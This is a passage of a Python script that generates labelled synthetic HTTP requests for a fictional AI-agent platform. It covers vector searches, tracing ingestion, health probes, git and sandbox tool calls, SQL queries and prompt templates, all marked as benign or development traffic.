    C.req(cat, "qdrant-upsert", "PUT", "qdrant.vector.svc.cluster.local:6333", "/collections/docs/points?wait=true", "python-httpx/0.28.1",
          json.dumps({"points": [{"id": rid_uuid(), "vector": vec(), "payload": {"source": "handbook.md", "chunk": 3, "text": "Meals > €50 require pre-approval."}}]}, ensure_ascii=False))
    for i in range(4):
        where = R.choice([{"source": "handbook"}, {"$and": [{"year": {"$gte": 2024}}, {"lang": {"$in": ["en", "de"]}}]},
                          {"category": {"$eq": "billing"}}, {"$or": [{"team": "support"}, {"team": "success"}]}])
        C.req(cat, "chroma-query", "POST", "chroma.vector.svc.cluster.local:8000",
              "/api/v2/tenants/default_tenant/databases/default_database/collections/%s/query" % rid_uuid(), "chromadb-python/1.1.0",
              json.dumps({"query_embeddings": [vec()], "n_results": 5, "where": where, "include": ["documents", "metadatas", "distances"],
                          **({"where_document": {"$contains": "refund"}} if i == 1 else {})}))
    C.req(cat, "pinecone-query", "POST", "kb-" + alnum(7).lower() + ".svc.aped-4627-b74a.pinecone.io", "/query", "python-requests/2.32.3",
          json.dumps({"namespace": "acme-eu", "topK": 10, "vector": vec(), "includeMetadata": True,
                      "filter": {"genre": {"$in": ["docs", "faq"]}, "updated": {"$gt": 1730000000}}}), extra=[["Api-Key", "pcsk_" + alnum(60)]])
    C.req(cat, "weaviate-graphql", "POST", "weaviate.vector.svc.cluster.local:8080", "/v1/graphql", "weaviate-client-python/4.16.9",
          json.dumps({"query": '{ Get { Article(nearText: {concepts: ["agent observability"]}, limit: 5, where: {path: ["lang"], operator: Equal, valueText: "en"}) { title url _additional { distance } } } }'}))
    C.req(cat, "milvus-search", "POST", "milvus.vector.svc.cluster.local:19530", "/v2/vectordb/entities/search", "python-requests/2.32.3",
          json.dumps({"collectionName": "support_kb", "data": [vec()], "annsField": "embedding", "limit": 5,
                      "filter": "lang in [\"en\", \"de\"] and year >= 2024", "outputFields": ["title", "url"]}))
    C.req(cat, "es-knn", "POST", "elasticsearch.search.svc.cluster.local:9200", "/kb-docs/_search", "elasticsearch-py/8.15.1",
          json.dumps({"knn": {"field": "embedding", "query_vector": vec(), "k": 10, "num_candidates": 100,
                              "filter": {"term": {"tenant": "acme-eu"}}}, "_source": ["title", "url"]}), ctype="application/vnd.elasticsearch+json; compatible-with=8")
    for q in ["how do I export my data", "Rückgaberecht Elektronik", "api rate limits per minute", "SSO setup with Okta"]:
        C.req(cat, "retrieval-api", "GET", "retrieval.agents.svc.cluster.local:8080", "/v1/search?" + qs({"q": q, "k": 5, "hybrid": "true", "alpha": 0.5}),
              R.choice(PY_UAS), accept="application/json")
    C.req(cat, "retrieval-api", "POST", "retrieval.agents.svc.cluster.local:8080", "/v1/rerank", "python-httpx/0.28.1",
          json.dumps({"model": "bge-reranker-v2-m3", "query": "refund window", "documents": ["Refunds within 30 days.", "Shipping takes 3-5 days.", "Gift cards are non-refundable."], "top_n": 2}))
    body, ct = multipart([("collection", "kb_en"), ("chunk_size", "800")],
                         [("file", "release-notes-3.2.html", "text/html", "<h1>Release 3.2</h1>\n<p>New: <strong>audit log export</strong> and EU data residency.</p>\n<ul><li>Fixed SSE reconnects</li></ul>\n")], "undici")
    C.req(cat, "retrieval-ingest", "POST", "retrieval.agents.svc.cluster.local:8080", "/v1/documents", "undici", body, ct)


def benign_tracing(C):
    cat = "benign"
    for i in range(5):
        tid = rid_uuid()
        batch = {"batch": [
            {"id": rid_uuid(), "type": "trace-create", "timestamp": iso(),
             "body": {"id": tid, "name": R.choice(["support-chat", "rag-pipeline", "email-drafter"]), "userId": "u_" + alnum(8),
                      "sessionId": rid_uuid(), "input": {"question": R.choice(QUESTIONS)}, "output": {"answer": R.choice(ANSWERS)},
                      "tags": ["prod", "eu"], "metadata": {"app_version": "3.2.1", "k8s_pod": "support-agent-7d9f6c-x2kq"}}},
            {"id": rid_uuid(), "type": "generation-create", "timestamp": iso(),
             "body": {"traceId": tid, "name": "ChatOpenAI", "model": "gpt-4.1-mini", "startTime": iso(), "endTime": iso(),
                      "usage": {"input": R.randint(200, 3000), "output": R.randint(20, 600), "unit": "TOKENS"},
                      "modelParameters": {"temperature": 0.2}}}],
            "metadata": {"batch_size": 2, "sdk_name": "python", "sdk_version": "3.3.4"}}
        C.req(cat, "langfuse-ingest", "POST", "langfuse.observability.svc.cluster.local:3000", "/api/public/ingestion", "langfuse-python/3.3.4",
              json.dumps(batch, ensure_ascii=False), extra=[["Authorization", "Basic " + base64.b64encode(("pk-lf-%s:sk-lf-%s" % (rid_uuid(), rid_uuid())).encode()).decode()]])
    for i in range(5):
        run = {"id": rid_uuid(), "name": R.choice(["AgentExecutor", "RunnableSequence", "retriever", "tools"]), "run_type": R.choice(["chain", "llm", "tool", "retriever"]),
               "inputs": {"input": R.choice(QUESTIONS)}, "outputs": {"output": R.choice(ANSWERS)} if i % 2 else None,
               "start_time": iso(), "session_name": "prod-support", "trace_id": rid_uuid(), "dotted_order": "20251003T101522123456Z" + rid_uuid(),
               "extra": {"metadata": {"ls_provider": "openai", "ls_model_name": "gpt-4.1-mini", "revision_id": "v3.2.1"}}}
        C.req(cat, "langsmith-runs", "POST", "langsmith.acme-ai.dev", "/runs/batch", "langsmith-py/0.4.31",
              json.dumps({"post": [run], "patch": []}, ensure_ascii=False), extra=[["x-api-key", "lsv2_pt_" + hexid(32) + "_" + hexid(10)]])
    C.req(cat, "langsmith-feedback", "POST", "langsmith.acme-ai.dev", "/feedback", "langsmith-py/0.4.31",
          json.dumps({"run_id": rid_uuid(), "key": "correctness", "score": 1, "comment": "Matches the reference answer."}))
    C.req(cat, "langsmith-query", "POST", "langsmith.acme-ai.dev", "/runs/query", "langsmith-py/0.4.31",
          json.dumps({"session": [rid_uuid()], "filter": 'and(eq(run_type, "llm"), gt(latency, 5))', "limit": 50, "select": ["id", "name", "latency"]}))
    for p in ["/api/public/traces?page=1&limit=50&userId=u_%s&orderBy=timestamp.desc" % alnum(8),
              "/api/public/observations?traceId=%s&type=GENERATION" % rid_uuid(), "/api/public/metrics/daily?traceName=support-chat&fromTimestamp=2025-09-01T00%3A00%3A00Z",
              "/api/public/health", "/api/public/scores?name=helpfulness&limit=100"]:
        C.req(cat, "langfuse-api", "GET", "langfuse.observability.svc.cluster.local:3000", p, R.choice(["langfuse-python/3.3.4", BROWSERS[0]]),
              extra=[["Authorization", "Basic " + base64.b64encode(("pk-lf-%s:sk-lf-%s" % (rid_uuid(), rid_uuid())).encode()).decode()]])
    for i in range(4):
        span = {"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "mcp-gateway"}},
                                                               {"key": "k8s.namespace.name", "value": {"stringValue": "agents"}}]},
                                   "scopeSpans": [{"scope": {"name": "openinference.instrumentation.mcp"}, "spans": [{
                                       "traceId": hexid(32), "spanId": hexid(16), "name": "tools/call get_weather", "kind": 3,
                                       "startTimeUnixNano": str(1759400000000000000 + R.randint(0, 10 ** 15)), "endTimeUnixNano": str(1759400000000000000 + R.randint(10 ** 15, 2 * 10 ** 15)),
                                       "attributes": [{"key": "gen_ai.operation.name", "value": {"stringValue": "execute_tool"}},
                                                      {"key": "gen_ai.tool.name", "value": {"stringValue": "get_weather"}},
                                                      {"key": "mcp.session.id", "value": {"stringValue": session_id()}}],
                                       "status": {"code": 1}}]}]}]}
        C.req(cat, "otlp-traces", "POST", "otel-collector.observability.svc.cluster.local:4318", "/v1/traces", "OTel-OTLP-Exporter-Python/1.37.0",
              json.dumps(span))
    C.req(cat, "eval-dataset", "POST", "langsmith.acme-ai.dev", "/examples/bulk", "langsmith-py/0.4.31",
          json.dumps([{"dataset_id": rid_uuid(), "inputs": {"question": q}, "outputs": {"answer": a}} for q, a in zip(QUESTIONS[:3], ANSWERS[:3])], ensure_ascii=False))


def benign_infra(C):
    cat = "benign"
    for host, p in [("mcp-fs.agents.svc.cluster.local:8080", "/healthz"), ("langflow.acme-ai.dev", "/health"),
                    ("agent-api.agents.svc.cluster.local:8123", "/ok"), ("tools-gateway.agents.svc:3000", "/readyz"),
                    ("dify-api.agents.svc.cluster.local:5001", "/health")]:
        C.req(cat, "k8s-probe", "GET", host, p, R.choice(["kube-probe/1.31", "kube-probe/1.33"]), accept="*/*", extra=[["Connection", "close"]])
    for host in ["mcp-gateway.agents.svc.cluster.local:9090", "litellm.platform.svc:4000", "qdrant.vector.svc.cluster.local:6333"]:
        C.req(cat, "prometheus", "GET", host, "/metrics", "Prometheus/3.5.0",
              accept="application/openmetrics-text;version=1.0.0;q=0.5,text/plain;version=0.0.4;q=0.3,*/*;q=0.1",
              extra=[["X-Prometheus-Scrape-Timeout-Seconds", "10"]])
    C.req(cat, "console-static", "GET", "console.acme-ai.dev", "/assets/index-%s.js" % alnum(8), BROWSERS[0], accept="*/*",
          extra=[["Referer", "https://console.acme-ai.dev/agents"], ["Accept-Encoding", "gzip, deflate, br, zstd"]])
    C.req(cat, "console-page", "GET", "console.acme-ai.dev", "/agents/%s/runs?tab=traces&range=24h&q=status%%3Aerror" % rid_uuid(), BROWSERS[2],
          accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
          extra=[["Cookie", "console_session=%s; theme=dark; ajs_anonymous_id=%%22%s%%22" % (alnum(40), rid_uuid())], ["Sec-Fetch-Mode", "navigate"]])
    C.req(cat, "console-api", "POST", "console.acme-ai.dev", "/api/graphql", BROWSERS[1],
          json.dumps({"operationName": "AgentRuns", "variables": {"agentId": rid_uuid(), "first": 25, "after": None, "status": ["FAILED", "TIMED_OUT"]},
                      "query": "query AgentRuns($agentId: ID!, $first: Int, $after: String, $status: [RunStatus!]) { agent(id: $agentId) { runs(first: $first, after: $after, status: $status) { edges { node { id status startedAt durationMs } } pageInfo { hasNextPage endCursor } } } }"}))
    C.req(cat, "console-settings", "PUT", "console.acme-ai.dev", "/api/agents/%s/settings" % rid_uuid(), BROWSERS[3],
          json.dumps({"display_name": "Support Agent (EU) — v3", "description": "Answers billing & shipping questions. Escalates to humans on refunds > €500.",
                      "max_tool_calls": 12, "allowed_tools": ["get_order_status", "search_docs", "send_slack_message"], "timezone": "Europe/Berlin"}, ensure_ascii=False),
          extra=[["X-CSRF-Token", alnum(43)], ["Origin", "https://console.acme-ai.dev"]])
    # binary uploads (exact bytes)
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + bytes(R.getrandbits(8) for _ in range(200)) + b"\n%%EOF\n"
    b = "----WebKitFormBoundary" + alnum(16)
    body = ("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"contract-2025.pdf\"\r\nContent-Type: application/pdf\r\n\r\n" % b).encode() + pdf + ("\r\n--%s\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nuser-x1\r\n--%s--\r\n" % (b, b)).encode()
    C.raw(cat, "upload-pdf-binary", raw_request("POST", "/v1/files/upload", [["Host", "dify.acme-ai.dev"], ["User-Agent", BROWSERS[0]],
                                                                             ["Authorization", "Bearer app-" + alnum(24)],
                                                                             ["Content-Type", "multipart/form-data; boundary=" + b], ["Content-Length", str(len(body))]], body))
    png = base64.b64decode(png_b64(600))
    b = hexid(32)
    body = ("--%s\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nvision\r\n--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"diagram.png\"\r\nContent-Type: image/png\r\n\r\n" % (b, b)).encode() + png + ("\r\n--%s--\r\n" % b).encode()
    C.raw(cat, "upload-png-binary", raw_request("POST", "/v1/files", [["Host", "api.acme-ai.dev"], ["User-Agent", "OpenAI/Python 1.107.0"],
                                                                      ["Authorization", "Bearer sk-" + alnum(48)],
                                                                      ["Content-Type", "multipart/form-data; boundary=" + b], ["Content-Length", str(len(body))]], body))


# --------------------------------------------------------------------------- dev-content

DIFF1 = """diff --git a/src/tools/fetch.ts b/src/tools/fetch.ts
index 3b1f2c4..9e0a7d1 100644
--- a/src/tools/fetch.ts
+++ b/src/tools/fetch.ts
@@ -12,9 +12,14 @@ export async function fetchTool(args: FetchArgs): Promise<ToolResult> {
-  const res = await fetch(args.url);
-  if (!res.ok) throw new Error(`HTTP ${res.status}`);
+  const controller = new AbortController();
+  const timer = setTimeout(() => controller.abort(), args.timeoutMs ?? 10_000);
+  try {
+    const res = await fetch(args.url, { signal: controller.signal, redirect: "follow" });
+    if (!res.ok) throw new Error(`HTTP ${res.status} for ${args.url}`);
+    return { content: [{ type: "text", text: await res.text() }] };
+  } finally {
+    clearTimeout(timer);
+  }
"""

DIFF2 = """diff --git a/app/db/queries.py b/app/db/queries.py
index 77aa012..c01d9f3 100644
--- a/app/db/queries.py
+++ b/app/db/queries.py
@@ -40,7 +40,8 @@ def recent_orders(conn, customer_id: int, limit: int = 20):
-    sql = "SELECT id, total, created_at FROM orders WHERE customer_id = %s ORDER BY created_at DESC" % customer_id
-    return conn.execute(sql).fetchall()
+    sql = "SELECT id, total, created_at FROM orders WHERE customer_id = %s ORDER BY created_at DESC LIMIT %s"
+    # parameterised to avoid SQL injection (was string formatting)
+    return conn.execute(sql, (customer_id, limit)).fetchall()
"""

DIFF3 = """diff --git a/templates/email/receipt.html b/templates/email/receipt.html
--- a/templates/email/receipt.html
+++ b/templates/email/receipt.html
@@ -3,6 +3,9 @@
   <h1>Thanks for your order, {{ customer.first_name }}!</h1>
-  <p>Total: {{ order.total }}</p>
+  <p>Total: {{ order.total | currency(order.currency) }}</p>
+  {% if order.discount %}
+  <p class="discount">You saved {{ order.discount | currency(order.currency) }}</p>
+  {% endif %}
   <a href="{{ order.url }}">View order</a>
"""

PY_TRACE = """Traceback (most recent call last):
  File "/app/.venv/lib/python3.12/site-packages/uvicorn/protocols/http/httptools_impl.py", line 409, in run_asgi
    result = await app(  # type: ignore[func-returns-value]
  File "/app/src/agent/tools/sql.py", line 58, in run_query
    rows = await conn.fetch(query, *params)
  File "/app/.venv/lib/python3.12/site-packages/asyncpg/connection.py", line 690, in fetch
    return await self._execute(query, args, 0, timeout)
asyncpg.exceptions.UndefinedColumnError: column "createdat" does not exist
HINT:  Perhaps you meant to reference the column "orders.created_at"."""

JAVA_TRACE = """java.lang.IllegalStateException: Failed to execute tool 'lookupInvoice'
\tat com.acme.agents.tools.ToolExecutor.execute(ToolExecutor.java:142)
\tat com.acme.agents.mcp.McpServer.handleCall(McpServer.java:88)
\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:885)
\tat java.base/java.lang.Thread.run(Thread.java:1583)
Caused by: java.net.SocketTimeoutException: Read timed out
\tat java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:278)
\t... 42 more"""

NODE_TRACE = """TypeError: Cannot read properties of undefined (reading 'map')
    at formatResults (/workspace/app/src/tools/search.ts:31:22)
    at async Server.<anonymous> (/workspace/app/node_modules/@modelcontextprotocol/sdk/dist/esm/server/index.js:112:30)
    at async Promise.all (index 0)"""

GO_TRACE = """panic: runtime error: invalid memory address or nil pointer dereference
[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x7b3f21]

goroutine 57 [running]:
github.com/acme/mcp-gateway/internal/session.(*Store).Touch(0x0, {0xc000412a80, 0x24})
\t/src/internal/session/store.go:88 +0x21
github.com/acme/mcp-gateway/internal/http.(*Handler).ServeHTTP(0xc0001b2000, {0xa3e2c0, 0xc0004d21c0}, 0xc0002b8a00)
\t/src/internal/http/handler.go:131 +0x3c5"""

RUST_TRACE = """thread 'tokio-runtime-worker' panicked at src/transport/sse.rs:214:41:
called `Option::unwrap()` on a `None` value
note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace"""

SQLS = [
    "SELECT c.name, SUM(o.total) AS revenue FROM customers c JOIN orders o ON o.customer_id = c.id WHERE o.created_at >= '2025-01-01' GROUP BY c.name ORDER BY revenue DESC LIMIT 10;",
    "WITH monthly AS (\n  SELECT date_trunc('month', created_at) AS m, count(*) AS n\n  FROM signups\n  WHERE plan <> 'free'\n  GROUP BY 1\n)\nSELECT m, n, n - lag(n) OVER (ORDER BY m) AS delta FROM monthly ORDER BY m;",
    "SELECT product_id, AVG(rating) FROM reviews WHERE status = 'published' AND deleted_at IS NULL GROUP BY product_id HAVING COUNT(*) > 20;",
    "SELECT 'web' AS channel, count(*) FROM web_orders WHERE created_at > now() - interval '7 days'\nUNION ALL\nSELECT 'store', count(*) FROM store_orders WHERE created_at > now() - interval '7 days';",
    "UPDATE subscriptions SET status = 'cancelled', cancelled_at = now() WHERE id = 4821 AND status = 'active';",
    "SELECT u.email FROM users u LEFT JOIN logins l ON l.user_id = u.id AND l.at > now() - interval '90 days' WHERE l.user_id IS NULL;",
    "EXPLAIN ANALYZE SELECT * FROM events WHERE tenant_id = 42 AND ts BETWEEN '2025-09-01' AND '2025-09-30';",
    "SELECT department, percentile_cont(0.5) WITHIN GROUP (ORDER BY salary) FROM employees GROUP BY department;",
    "DELETE FROM sessions WHERE expires_at < now() - interval '30 days';",
    "SELECT id, title FROM tickets WHERE title ILIKE '%refund%' OR body ILIKE '%chargeback%' ORDER BY id DESC LIMIT 50;",
]

SHELL_CMDS = ["npm test", "ls -la src/", "npm run build", "pytest -q tests/test_api.py -k 'not slow'", "git log --oneline -5",
              "grep -rn \"TODO\" src/ | head -20", "cat package.json", "python -m pip install -r requirements.txt",
              "cargo test --workspace", "go test ./...", "make lint", "find . -name '*.py' -not -path './.venv/*' | wc -l",
              "head -n 50 logs/app.log", "npx tsc --noEmit", "sed -n '1,80p' src/index.ts", "git status --short",
              "npm install --save-dev vitest@^3", "ruff check . --fix && ruff format .", "docker build -t app:dev .",
              "uv run python scripts/seed.py --count 100", "cd frontend && pnpm lint", "echo $NODE_ENV", "wc -l src/**/*.ts",
              "du -sh node_modules", "curl -s http://localhost:3000/health"]

CODE_FILES = [
    ("/workspace/app/src/utils/date.ts", "import { format } from 'date-fns';\nimport { DEFAULT_TZ } from '../../config/constants';\n\nexport function formatDue(d: Date, tz = DEFAULT_TZ): string {\n  return format(d, \"yyyy-MM-dd HH:mm\") + ` (${tz})`;\n}\n"),
    ("/workspace/app/src/server.py", "from fastapi import FastAPI, HTTPException\nfrom .db import get_order\n\napp = FastAPI()\n\n@app.get('/orders/{order_id}')\nasync def order(order_id: int):\n    row = await get_order(order_id)\n    if row is None:\n        raise HTTPException(status_code=404, detail='not found')\n    return row\n"),
    ("/workspace/app/Dockerfile", "FROM python:3.12-slim\nWORKDIR /app\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nCMD [\"uvicorn\", \"src.server:app\", \"--host\", \"0.0.0.0\", \"--port\", \"8000\"]\n"),
    ("/workspace/app/.github/workflows/ci.yml", "name: ci\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with: { node-version: 22 }\n      - run: npm ci && npm test\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n"),
    ("/workspace/app/k8s/deployment.yaml", "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: support-agent\nspec:\n  replicas: 2\n  template:\n    spec:\n      containers:\n        - name: agent\n          image: ghcr.io/acme/support-agent:3.2.1\n          ports: [{ containerPort: 8000 }]\n          readinessProbe: { httpGet: { path: /healthz, port: 8000 } }\n"),
    ("/workspace/app/src/components/Button.tsx", "import React from 'react';\n\nexport function Button({ label, onClick }: { label: string; onClick: () => void }) {\n  return <button className=\"btn btn-primary\" onClick={onClick}>{label}</button>;\n}\n"),
    ("/workspace/app/Makefile", ".PHONY: test lint\ntest:\n\tpytest -q\nlint:\n\truff check . && mypy src/\n"),
    ("/workspace/app/src/lib/api.ts", "export async function getJSON<T>(path: string): Promise<T> {\n  const res = await fetch(`${process.env.API_BASE ?? ''}${path}`, { headers: { Accept: 'application/json' } });\n  if (!res.ok) throw new Error(`GET ${path} -> ${res.status}`);\n  return res.json() as Promise<T>;\n}\n"),
    ("/workspace/notebooks/clean.py", "import pandas as pd\n\ndf = pd.read_csv('data/raw/orders.csv', parse_dates=['created_at'])\ndf = df[df['total'] > 0].drop_duplicates(subset=['order_id'])\ndf.to_parquet('data/clean/orders.parquet')\nprint(df.describe())\n"),
    ("/workspace/app/nginx.conf", "server {\n  listen 8080;\n  location /api/ {\n    proxy_pass http://127.0.0.1:8000/;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n  }\n}\n"),
]


def benign_dev(C):
    cat = "dev-content"
    git_host = "git-mcp.dev-tools.svc.cluster.local:8000"
    repo = R.choice(["/workspace/app", "/home/user/projects/agent-gateway"])
    git_calls = [("git_status", {"repo_path": repo}), ("git_diff_unstaged", {"repo_path": repo, "context_lines": 3}),
                 ("git_diff_staged", {"repo_path": repo}), ("git_diff", {"repo_path": repo, "target": "main"}),
                 ("git_add", {"repo_path": repo, "files": ["src/tools/fetch.ts", "src/server.ts", "tests/fetch.test.ts"]}),
                 ("git_commit", {"repo_path": repo, "message": "fix(fetch): add timeout + abort controller\n\nPreviously a hanging upstream kept the tool call open forever.\nNow we abort after `timeoutMs` (default 10s) and return `HTTP <status> for <url>` on errors.\n\nCloses #412"}),
                 ("git_log", {"repo_path": repo, "max_count": 10}), ("git_create_branch", {"repo_path": repo, "branch_name": "feat/sse-resume", "base_branch": "main"}),
                 ("git_checkout", {"repo_path": repo, "branch_name": "fix/null-args"}), ("git_show", {"repo_path": repo, "revision": "HEAD~1"}),
                 ("git_commit", {"repo_path": repo, "message": "refactor(db): use parameterised queries in recent_orders()\n\n- replace `% customer_id` string formatting with bind params\n- add LIMIT %s"}),
                 ("git_reset", {"repo_path": repo})]
    for n, a in git_calls:
        tool_call(C, cat, "git-mcp", n, a, host=git_host)
    for d in [DIFF1, DIFF2, DIFF3]:
        C.req(cat, "tool-output-diff", "POST", "api.acme-ai.dev", "/v1/responses", "OpenAI/Python 1.107.0",
              json.dumps({"model": "gpt-5", "previous_response_id": "resp_" + hexid(48),
                          "input": [{"type": "function_call_output", "call_id": "call_" + alnum(24), "output": d}]}),
              extra=[["Authorization", "Bearer sk-proj-" + alnum(48)]])
    C.req(cat, "review-comment", "POST", "github-mcp.dev-tools.svc.cluster.local:8000", "/mcp", "claude-code/2.0.14",
          dumps({"jsonrpc": "2.0", "id": 41, "method": "tools/call", "params": {"name": "create_pull_request_review", "arguments": {
              "owner": "acme", "repo": "agent-gateway", "pullNumber": 418, "event": "COMMENT",
              "body": "Nice cleanup! One nit:\n\n```suggestion\n    return conn.execute(sql, (customer_id, limit)).fetchall()\n```\n\nAlso consider `ORDER BY created_at DESC, id DESC` for a stable sort.",
              "comments": [{"path": "app/db/queries.py", "line": 42, "body": "Can we keep `%s` placeholders but add a test for `limit=0`?"}]}}}),
          accept="application/json, text/event-stream", extra=[["Mcp-Session-Id", session_id()], ["MCP-Protocol-Version", "2025-06-18"]])

    # shell commands a coding agent runs inside its own sandbox
    for i, cmd in enumerate(SHELL_CMDS):
        k = i % 3
        if k == 0:
            tool_call(C, cat, "sandbox-shell", R.choice(["run_command", "bash", "execute_command", "shell"]),
                      {"command": cmd, "cwd": "/workspace/app", "timeout_ms": 120000}, host="devbox-%s.sandboxes.svc.cluster.local:8080" % alnum(6).lower())
        elif k == 1:
            C.req(cat, "sandbox-shell", "POST", "49983-%s.e2b.acme-ai.dev" % alnum(20).lower(), "/process.Process/Start", "e2b-js-sdk/2.3.0",
                  json.dumps({"process": {"cmd": "/bin/bash", "args": ["-l", "-c", cmd], "envs": {"CI": "1"}, "cwd": "/home/user/app"}, "stdin": False}),
                  "application/connect+json", extra=[["Connect-Protocol-Version", "1"], ["X-Access-Token", alnum(32)]])
        else:
            C.req(cat, "sandbox-shell", "POST", "api.acme-ai.dev", "/v1/responses", "OpenAI/JS 5.20.1",
                  json.dumps({"model": "codex-mini-latest", "previous_response_id": "resp_" + hexid(48), "input": [
                      {"type": "local_shell_call_output", "call_id": "call_" + alnum(24),
                       "output": json.dumps({"command": cmd, "exit_code": 0, "stdout": "ok\n", "stderr": ""})}]}),
                  extra=[["Authorization", "Bearer sk-proj-" + alnum(48)]])
    # code interpreter
    codes = ["import pandas as pd\ndf = pd.read_csv('sales.csv')\ndf.groupby('region')['revenue'].sum().plot(kind='bar')",
             "import os\nprint(sorted(os.listdir('.')))", "import matplotlib.pyplot as plt\nimport numpy as np\nx = np.linspace(0, 2*np.pi, 200)\nplt.plot(x, np.sin(x)); plt.savefig('sine.png')",
             "!pip install -q openpyxl\nimport openpyxl\nwb = openpyxl.load_workbook('budget.xlsx')\nprint(wb.sheetnames)",
             "import requests\nr = requests.get('https://api.github.com/repos/python/cpython/releases/latest', timeout=10)\nprint(r.json()['tag_name'])",
             "with open('/home/user/report.md', 'w') as f:\n    f.write('# Weekly report\\n\\n- revenue up 4%\\n')",
             "import subprocess\nprint(subprocess.run(['python', '--version'], capture_output=True, text=True).stdout)"]
    for c in codes:
        C.req(cat, "code-interpreter", "POST", "49999-%s.e2b.acme-ai.dev" % alnum(20).lower(), "/execute", "e2b-code-interpreter-python/2.0.0",
              json.dumps({"code": c, "context_id": rid_uuid(), "language": "python", "env_vars": {}}), extra=[["X-Access-Token", alnum(32)]])
    C.req(cat, "jupyter-save", "PUT", "jupyter.sandbox.svc.cluster.local:8888", "/api/contents/notebooks/analysis.ipynb", "python-httpx/0.28.1",
          json.dumps({"type": "notebook", "format": "json", "content": {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
                      "cells": [{"cell_type": "code", "source": codes[0], "metadata": {}, "outputs": [], "execution_count": None, "id": hexid(8)},
                                {"cell_type": "markdown", "source": "## Findings\nEMEA revenue is **12%** above plan.", "metadata": {}, "id": hexid(8)}]}}),
          extra=[["Authorization", "token " + hexid(48)]])

    # SQL the user asked a text-to-SQL agent to explain / run read-only
    for i, s in enumerate(SQLS):
        k = i % 4
        if k == 0:
            tool_call(C, cat, "text-to-sql", R.choice(["query", "explain_query"]), {"sql": s}, host="db-mcp.data.svc.cluster.local:8000")
        elif k == 1:
            C.req(cat, "text-to-sql", "POST", "chains.agents.svc.cluster.local:8000", "/sql-agent/invoke", "python-httpx/0.28.1",
                  json.dumps({"input": {"question": "Can you explain what this query does and whether it uses the index on created_at?\n\n" + s}}))
        elif k == 2:
            C.req(cat, "text-to-sql", "POST", "dify.acme-ai.dev", "/v1/chat-messages", "axios/1.7.9",
                  json.dumps({"inputs": {"dialect": "postgresql"}, "query": "Why is this slow?\n```sql\n" + s + "\n```", "response_mode": "streaming", "user": "analyst-7"}))
        else:
            C.req(cat, "text-to-sql", "POST", "langfuse.observability.svc.cluster.local:3000", "/api/public/ingestion", "langfuse-python/3.3.4",
                  json.dumps({"batch": [{"id": rid_uuid(), "type": "span-create", "timestamp": iso(), "body": {
                      "traceId": rid_uuid(), "name": "generate_sql", "input": {"question": "Top customers by revenue this year"}, "output": {"sql": s}}}]}))
    # prompt templates
    tmpls = [("jinja2", "You are a support assistant for {{ company }}.\n{% if user.plan == 'enterprise' %}Prioritise SLA details.{% endif %}\n\nContext:\n{% for doc in documents %}- {{ doc.title }}: {{ doc.summary | truncate(200) }}\n{% endfor %}\n\nQuestion: {{ question }}"),
             ("f-string", "Answer the question using only the context.\n\nContext: {context}\n\nQuestion: {question}\nAnswer in {language}:"),
             ("mustache", "{{#system}}You are terse.{{/system}}\n{{#each messages}}{{role}}: {{content}}\n{{/each}}"),
             ("jinja2", "{% set max_items = 5 %}Summarise the following {{ items|length }} tickets (max {{ max_items }} bullets):\n{% for t in items[:max_items] %}* #{{ t.id }} {{ t.subject }}\n{% endfor %}"),
             ("mustache", "Hello {{name}}, your order {{order.id}} ships {{#express}}tomorrow{{/express}}{{^express}}in 3-5 days{{/express}}.")]
    for fmt, t in tmpls:
        C.req(cat, "prompt-template", "POST", "langsmith.acme-ai.dev", "/commits/acme/support-prompt", "langsmith-py/0.4.31",
              json.dumps({"manifest": {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "chat", "ChatPromptTemplate"],
                                       "kwargs": {"messages": [{"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "chat", "SystemMessagePromptTemplate"],
                                                                "kwargs": {"prompt": {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"],
                                                                                      "kwargs": {"template": t, "template_format": fmt, "input_variables": ["question"]}}}}]}},
                          "parent_commit": hexid(8)}), extra=[["x-api-key", "lsv2_pt_" + hexid(32) + "_" + hexid(10)]])
    C.req(cat, "prompt-template", "PATCH", "langflow.acme-ai.dev", "/api/v1/flows/" + rid_uuid(), BROWSERS[0],
          json.dumps({"data": {"nodes": [{"id": "Prompt-" + alnum(5), "data": {"node": {"template": {"template": {"value": tmpls[1][1], "type": "prompt"}}}}}]}}))
    C.req(cat, "prompt-template", "POST", "dify.acme-ai.dev", "/console/api/apps/%s/workflows/draft" % rid_uuid(), BROWSERS[1],
          json.dumps({"graph": {"nodes": [{"id": "1733", "data": {"type": "template-transform", "title": "Format answer", "variables": [{"variable": "arg1", "value_selector": ["llm", "text"]}],
                                                                  "template": "{{ arg1 }}\n\n---\nSources:\n{% for s in sources %}[{{ loop.index }}] {{ s.title }}\n{% endfor %}"}}]}, "features": {}}))
    n8n_exprs = ["={{ $json.body.email.toLowerCase().trim() }}", "={{ $('HTTP Request').item.json.data.map(d => d.id).join(',') }}",
                 "={{ $now.minus({ days: 7 }).toISODate() }}", "={{ $json.items.filter(i => i.qty > 0).length > 0 ? 'in stock' : 'sold out' }}",
